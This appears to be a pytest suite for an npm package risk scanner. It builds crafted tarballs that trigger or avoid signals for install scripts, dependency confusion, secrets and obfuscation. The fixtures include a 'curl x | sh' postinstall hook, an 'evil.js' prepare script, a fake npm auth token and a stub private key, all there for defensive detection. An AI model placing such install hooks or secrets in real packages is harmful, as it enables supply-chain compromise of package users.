"""Every risk signal, raised by one crafted tarball and not raised by a close neighbour.

The tarballs are real gzip tars scanned by tarscan, exactly as the server scans stored
blobs; the signal functions see nothing else.
"""

from __future__ import annotations

import base64
import itertools
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from airlock.stage import signals, tarscan
from tests.support.packages import make_tarball

_counter = itertools.count()


@dataclass
class V:
    """A version to build: manifest fields, extra files, registry-side facts."""

    version: str = "1.0.0"
    extra: dict[str, Any] = field(default_factory=dict)
    files: dict[str, bytes] = field(default_factory=dict)
    trusted_publisher: dict[str, Any] | None = None
    provenance: bool = False


def scan(tmp_path: Path, v: V) -> tarscan.TarballFacts:
    path = tmp_path / f"t{next(_counter)}.tgz"
    path.write_bytes(make_tarball("pkg", v.version, v.extra, v.files))
    return tarscan.scan_file(path)


def ids(
    tmp_path: Path,
    staged: V,
    compared: V | None,
    **context: Any,
) -> dict[str, signals.Signal]:
    def side(v: V) -> signals.Side:
        return signals.Side(v.version, scan(tmp_path, v), v.trusted_publisher, v.provenance)

    ctx = signals.Context(
        tag=context.pop("tag", "latest"),
        actor="alice",
        first_time_actor=context.pop("first_time_actor", False),
        not_hosted=frozenset(context.pop("not_hosted", ())),
        hosted_scopes=frozenset(context.pop("hosted_scopes", ())),
    )
    found = signals.compute(side(staged), side(compared) if compared else None, ctx)
    assert len({s.id for s in found}) == len(found)  # one line per id
    return {s.id: s for s in found}


BASE = V("1.0.0")
MINIFIED = b"var a=1;" * 400 + b"\n"  # one 3200-character line
RANDOM = base64.b64encode(os.urandom(30000))  # ~6 bits/byte, in short lines:
OBFUSCATED = b"\n".join(RANDOM[i : i + 80] for i in range(0, len(RANDOM), 80))
TOKEN = b"//registry.npmjs.org/:_authToken=npm_" + b"A1b2C3d4E5" * 3 + b"abcdef\n"
KEY = (
    b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
    b"-----END OPENSSH PRIVATE KEY-----\n"
)
TP_A = {"id": "github", "oidcConfigId": "oidc:a"}
TP_B = {"id": "github", "oidcConfigId": "oidc:b"}
BIG = os.urandom(200 * 1024)

# (signal id, staged, compared, context) that raises it; then a neighbour that does not.
CASES: list[tuple[str, tuple[V, V | None, dict[str, Any]], tuple[V, V | None, dict[str, Any]]]] = [
    (
        "install-script-added",
        (V("1.1.0", {"scripts": {"postinstall": "node x.js"}}), BASE, {}),
        (V("1.1.0", {"scripts": {"test": "node x.js"}}), BASE, {}),
    ),
    (
        "install-script-changed",
        (
            V("1.1.0", {"scripts": {"prepare": "node evil.js"}}),
            V("1.0.0", {"scripts": {"prepare": "tsc"}}),
            {},
        ),
        (
            V("1.1.0", {"scripts": {"prepare": "tsc"}}),
            V("1.0.0", {"scripts": {"prepare": "tsc"}}),
            {},
        ),
    ),
    (
        "binding-gyp-added",
        (V("1.1.0", files={"binding.gyp": b"{}"}), BASE, {}),
        (V("1.1.0", files={"binding.gyp": b"{}"}), V("1.0.0", files={"binding.gyp": b"{}"}), {}),
    ),
    (
        "bin-added",
        (V("1.1.0", {"bin": {"pkg": "cli.js"}}), BASE, {}),
        (V("1.1.0", {"bin": {"pkg": "cli.js"}}), V("1.0.0", {"bin": "cli.js"}), {}),
    ),
    (
        "dependency-added",
        (V("1.1.0", {"devDependencies": {"left-pad": "^1.0.0"}}), BASE, {}),
        (
            V("1.1.0", {"devDependencies": {"left-pad": "^1.0.0"}}),
            V("1.0.0", {"devDependencies": {"left-pad": "^1.0.0"}}),
            {},
        ),
    ),
    (
        "dependency-removed",
        (BASE, V("0.9.0", {"peerDependencies": {"react": "*"}}), {}),
        (
            V("1.0.0", {"peerDependencies": {"react": "*"}}),
            V("0.9.0", {"peerDependencies": {"react": "*"}}),
            {},
        ),
    ),
    (
        "dependency-changed",
        (
            V("1.1.0", {"optionalDependencies": {"fsevents": "^2.0.0"}}),
            V("1.0.0", {"optionalDependencies": {"fsevents": "^1.0.0"}}),
            {},
        ),
        (
            V("1.1.0", {"optionalDependencies": {"fsevents": "^1.0.0"}}),
            V("1.0.0", {"optionalDependencies": {"fsevents": "^1.0.0"}}),
            {},
        ),
    ),
    (
        "dependency-outside-registry",
        (V("1.1.0", {"dependencies": {"x": "git+https://example.com/x.git"}}), BASE, {}),
        (V("1.1.0", {"dependencies": {"x": "npm:y@^1.0.0"}}), BASE, {}),
    ),
    (
        "dependency-new-to-registry",
        (V("1.1.0", {"dependencies": {"lefft-pad": "1"}}), BASE, {"not_hosted": {"lefft-pad"}}),
        (V("1.1.0", {"dependencies": {"left-pad": "1"}}), BASE, {"not_hosted": set()}),
    ),
    (
        "dependency-confusable",
        (
            V("1.1.0", {"dependencies": {"@corp/utils": "1"}}),
            BASE,
            {"not_hosted": {"@corp/utils"}, "hosted_scopes": {"@corp"}},
        ),
        (
            V("1.1.0", {"dependencies": {"@other/utils": "1"}}),
            BASE,
            {"not_hosted": {"@other/utils"}, "hosted_scopes": {"@corp"}},
        ),
    ),
    (
        "size-changed",
        (V("1.1.0", files={"big.bin": BIG}), BASE, {}),
        (V("1.1.0", files={"small.txt": b"x" * 1000}), BASE, {}),
    ),
    (
        "file-count-changed",
        (V("1.1.0", files={f"f{i}.js": b"1" for i in range(20)}), BASE, {}),
        (V("1.1.0", files={"f.js": b"1"}), BASE, {}),
    ),
    (
        "binary-file-added",
        (V("1.1.0", files={"lib.node": b"\x7fELF\x00\x00" + bytes(100)}), BASE, {}),
        (V("1.1.0", files={"lib.js": b"module.exports = 2;\n"}), BASE, {}),
    ),
    (
        "generated-file-added",
        (V("1.1.0", files={"dist/a.min.js": MINIFIED}), BASE, {}),
        (V("1.1.0", files={"dist/a.js": b"var a = 1;\n" * 300}), BASE, {}),
    ),
    (
        "secret-file",
        (V("1.1.0", files={"config.txt": TOKEN}), BASE, {}),
        (V("1.1.0", files={"config.txt": b"token=npm_short\n"}), BASE, {}),
    ),
    (
        "unusual-file",
        (V("1.1.0", files={".github/workflows/ci.yml": b"on: push\n"}), BASE, {}),
        (V("1.1.0", files={"docs/workflows.md": b"# ci\n"}), BASE, {}),
    ),
    (
        "first-time-stager",
        (V("1.1.0"), BASE, {"first_time_actor": True}),
        (V("1.1.0"), BASE, {"first_time_actor": False}),
    ),
    (
        "trusted-publisher-changed",
        (V("1.1.0", trusted_publisher=TP_B), V("1.0.0", trusted_publisher=TP_A), {}),
        (V("1.1.0", trusted_publisher=TP_A), V("1.0.0", trusted_publisher=TP_A), {}),
    ),
    (
        "provenance-missing",
        (V("1.1.0"), V("1.0.0", provenance=True), {}),
        (V("1.1.0", provenance=True), V("1.0.0", provenance=True), {}),
    ),
    (
        "major-jump",
        (V("3.0.0"), BASE, {}),
        (V("2.0.0"), BASE, {}),
    ),
    (
        "prerelease-latest",
        (V("2.0.0-rc.1"), BASE, {"tag": "latest"}),
        (V("2.0.0-rc.1"), BASE, {"tag": "next"}),
    ),
]


@pytest.mark.parametrize(("sid", "raises", "quiet"), CASES, ids=[c[0] for c in CASES])
def test_signal_raised_and_not(tmp_path, sid, raises, quiet):
    staged, compared, ctx = raises
    found = ids(tmp_path, staged, compared, **dict(ctx))
    assert sid in found, found
    assert found[sid].severity in signals.SEVERITY_ORDER and found[sid].reason
    staged, compared, ctx = quiet
    assert sid not in ids(tmp_path, staged, compared, **dict(ctx))


def test_every_signal_has_a_case():
    import inspect

    source = inspect.getsource(signals)
    named = {c[0] for c in CASES}
    for sid in named:
        assert f'"{sid}"' in source
    # No signal id in the module is left without a case.
    import re

    declared = set(re.findall(r'(?:_signal|Signal)\(\s*"([a-z-]+)"', source))
    assert declared == named


def test_obfuscated_high_entropy_file_without_long_lines(tmp_path):
    found = ids(tmp_path, V("1.1.0", files={"x.js": OBFUSCATED}), BASE)
    assert "entropy" in found["generated-file-added"].reason


def test_private_key_and_key_file_names(tmp_path):
    found = ids(tmp_path, V("1.1.0", files={"k.txt": KEY, "certs/server.pem": b"x"}), BASE)
    reason = found["secret-file"].reason
    assert "k.txt (private key)" in reason and "certs/server.pem (key file name)" in reason


def test_new_package_gets_content_signals_but_no_history_ones(tmp_path):
    found = ids(
        tmp_path,
        V("1.0.0", {"scripts": {"install": "node i.js"}}),
        None,
        first_time_actor=True,
        not_hosted={"x"},
    )
    assert "install-script-added" in found
    assert "first-time-stager" not in found and "dependency-new-to-registry" not in found


def test_changed_existing_minified_file_is_not_new(tmp_path):
    staged = V("1.1.0", files={"a.min.js": MINIFIED + b"//2\n"})
    found = ids(tmp_path, staged, V("1.0.0", files={"a.min.js": MINIFIED}))
    assert "generated-file-added" not in found


def test_signals_come_from_the_tarball_not_a_claimed_manifest(tmp_path):
    # The scan reads package/package.json from the archive itself.
    facts = scan(tmp_path, V("1.1.0", {"scripts": {"postinstall": "curl x | sh"}}))
    assert facts.manifest["scripts"] == {"postinstall": "curl x | sh"}
    assert facts.file_count == 2 and "index.js" in facts.files
